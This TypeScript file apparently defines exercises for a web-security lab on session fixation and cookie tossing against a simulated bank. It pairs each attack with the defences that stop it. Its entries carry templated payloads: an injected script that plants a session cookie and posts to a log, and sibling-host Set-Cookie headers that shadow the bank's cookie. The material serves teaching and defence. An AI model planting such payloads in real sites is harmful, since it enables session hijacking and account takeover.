import { type Attack, notWritten } from './attack.ts';

/** Labs 3 and 4: a session id that the attacker chose, and a cookie that shadows the real one. */
export const fixation: readonly Attack[] = [
  {
    id: 'fixation-by-script',
    lab: 'fixation',
    title: 'An injected script plants an id',
    story:
      'Mallory’s client fetches a session id from the bank and keeps it alive: signed by the bank, but nobody’s yet. A comment on the public page plants it in Alice’s browser before she logs in.',
    goal: 'With the planted id, the bank answers the attacker’s client as if it were Alice.',
    ground: 'comment',
    weakness: notWritten,
    exploit: `Nice bank!
<script>
  document.cookie = '{{cookie}}={{planted}}; Path=/; Max-Age=600{{secure}}';
  fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: 'Planted.' });
</script>`,
    sign: { at: 'log' },
    defences: [
      'regenerate',
      'http-only',
      'prefix-http',
      'prefix-host-http',
      'output-encoding',
      'content-security-policy',
    ],
    probe: null,
  },
  {
    id: 'fixation-by-sibling',
    lab: 'fixation',
    title: 'The sibling plants an id',
    story:
      'The shop’s server answers with a cookie for the whole site, which holds the id that Mallory’s client keeps alive.',
    goal: 'With the planted id, the bank answers the attacker’s client as if it were Alice.',
    ground: 'sibling-answer',
    weakness: notWritten,
    exploit: `Set-Cookie: {{cookie}}={{planted}}; Domain={{host}}; Path=/; Max-Age=600; HttpOnly{{secure}}

<p>Welcome to the shop.</p>`,
    sign: { at: 'bank', method: 'POST', path: '/login' },
    defences: ['regenerate', 'http-only', 'same-site-strict', 'prefix-http', 'prefix-host', 'prefix-host-http'],
    probe: null,
  },
];

/** Why planting by an address is not among the attacks. */
export const fixationByAddress = {
  title: 'Planting an id by an address (?sid=…)',
  reason: 'express-session takes ids from the Cookie header only.',
};

const toss = {
  lab: 'tossing',
  goal: 'What Alice saves lands in Mallory’s account.',
  weakness: notWritten,
  sign: { at: 'bank', method: 'POST', path: '/notes' },
  defences: ['same-site-strict', 'http-only', 'prefix-secure', 'prefix-http', 'prefix-host', 'prefix-host-http'],
  probe: null,
} as const;

export const tossing: readonly Attack[] = [
  {
    ...toss,
    id: 'toss-by-server',
    title: 'The sibling’s server tosses a cookie',
    story:
      'The shop’s server sets a cookie with the bank’s name for it, for the whole site and with a longer Path. The browser sends both, the longer Path first, and Express reads the first.',
    ground: 'sibling-answer',
    exploit: `Set-Cookie: {{cookie}}={{planted}}; Domain={{host}}; Path={{path}}/notes; Max-Age=600; HttpOnly{{secure}}

<p>Welcome to the shop.</p>`,
  },
  {
    ...toss,
    id: 'toss-by-script',
    title: 'The sibling’s script tosses a cookie',
    story: 'The same by document.cookie in a page of the shop, as a script injected there would.',
    ground: 'sibling-page',
    exploit: `<p>Welcome to the shop.</p>
<script>
  document.cookie = '{{cookie}}={{planted}}; Domain={{host}}; Path={{path}}/notes; Max-Age=600{{secure}}';
</script>`,
  },
];
